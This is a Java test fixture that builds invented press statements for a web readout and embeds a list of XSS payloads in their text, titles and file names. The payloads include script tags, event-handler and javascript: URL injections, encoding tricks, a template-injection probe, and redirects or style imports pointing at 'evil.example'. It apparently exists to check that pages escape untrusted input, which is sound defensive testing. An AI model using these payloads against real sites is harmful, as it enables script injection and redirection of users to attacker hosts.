package readout.web;

import readout.web.ServedReview.Statement;

import java.util.ArrayList;
import java.util.List;

/// Invented statements that carry what would run if a page took it for more than text.
final class Payloads {
    /// Each sets `window.ran` or opens a dialog where it runs.
    static final List<String> SCRIPTS =
            List.of(
                    "<script>window.ran=1</script>",
                    "</textarea></title></style><script>window.ran=1</script>",
                    "\"><img src=x onerror=window.ran=1>",
                    "'><svg onload=window.ran=1>",
                    "<svg/onload=alert(1)//",
                    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
                    "<details open ontoggle=window.ran=1>",
                    "<a href=\"javascript:window.ran=1\">x</a>",
                    "javascript:/*--></title></style></textarea></script><svg onload=ran=1>",
                    "<math><mtext></form><form><mglyph><style></math><img src onerror=ran=1>",
                    "<base href=//evil.example/>",
                    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                    "<input autofocus onfocus=window.ran=1>",
                    "<style>@import '//evil.example/x.css';</style>",
                    "&lt;script&gt;window.ran=1&lt;/script&gt;",
                    "&#60;script&#62;window.ran=1&#60;/script&#62;",
                    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
                    "${7*7}{{7*7}}<%= 7*7 %>#{7*7}",
                    "<!--<script>-->window.ran=1</script>",
                    "]]><script>window.ran=1</script>",
                    "<button formaction=javascript:ran=1 type=submit>x</button>",
                    "<object data=javascript:ran=1></object><embed src=javascript:ran=1>",
                    "\u202e<script>window.ran=1</script>\u202c",
                    "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-");

    private Payloads() {}

    /// Statements of two weeks: some plain, some with a payload in the words, the title and the
    /// name.
    static List<Statement> statements() {
        List<Statement> all = new ArrayList<>();
        all.add(
                new Statement(
                        "border-1.txt",
                        """
                        Minister on the border

                        Monday, 27 January 2031

                        “We will not close the Hrádek crossing,” Minister of Defence Ondřej Kárský said.
                        He stressed that applications would go on being accepted at the crossing.
                        “The order for six batteries stands,” he said.
                        """));
        all.add(
                new Statement(
                        "border-2.txt",
                        """
                        Minister on the border again

                        Tuesday, 4 February 2031

                        “We will close the Hrádek crossing,” Minister of Defence Ondřej Kárský said.
                        He stressed that applications would go on being accepted at the crossing.
                        “The order for six batteries was cancelled,” he said.
                        """));
        all.add(
                new Statement(
                        "rate.txt",
                        """
                        Governor on the rate

                        Wednesday, 5 February 2031

                        “The policy rate stays at 4 per cent until the summer,” Governor Ieva Straumēna said.
                        She added that wage growth pointed to 3 per cent this year.
                        “We will look at the policy rate again in June,” Governor Ieva Straumēna said.
                        """));
        for (int i = 0; i < SCRIPTS.size(); i++) {
            String script = SCRIPTS.get(i);
            all.add(
                    new Statement(
                            i + "-" + script.replaceAll("[/\\x00]", "_") + ".txt",
                            """
                            Statement %1$d %2$s

                            Thursday, 6 February 2031

                            “Sensor %1$d %2$s will be moved to the harbour of Maaren,” Commissioner Aušra Žemgulytė said.
                            """
                                    .formatted(i, script)));
        }
        return all;
    }
}
